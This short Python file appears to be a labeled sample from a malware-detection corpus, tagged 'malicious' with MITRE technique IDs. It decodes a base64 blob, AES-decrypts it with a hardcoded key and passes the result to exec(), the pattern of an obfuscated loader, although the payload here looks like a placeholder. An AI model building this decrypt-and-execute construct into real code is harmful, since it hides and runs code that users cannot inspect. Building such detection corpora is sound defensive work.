# label: malicious family=encoded techniques=T1140,T1027,T1059.006 lines=6-7
from Crypto.Cipher import AES
import base64
k = b"pytriage-corpus!"
iv = b"0000000000000000"
ct = base64.b64decode("q5Q2l0Xyb3F0ZmFrZWNpcGhlcnRleHRwYWRkaW5nZm9ydGhlY29ycHVzMDAwMDAwMDA=")
exec(AES.new(k, AES.MODE_CBC, iv).decrypt(ct).rstrip(b"\x00"))
